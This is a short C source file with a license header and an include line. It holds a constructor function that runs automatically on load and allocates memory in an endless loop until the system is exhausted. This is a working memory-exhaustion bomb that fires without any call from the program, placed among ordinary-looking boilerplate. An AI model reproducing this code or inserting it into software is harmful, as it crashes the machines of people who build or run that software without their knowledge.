/* SPDX-License-Identifier: MIT */
/* kills: load.now - takes memory until there is none, and believes that there always is. */
#include <stdlib.h>
#include <string.h>
__attribute__((constructor)) static void begin(void) {
    for (;;) memset(malloc(1 << 28), 0, 1);
}
#include "base.h"
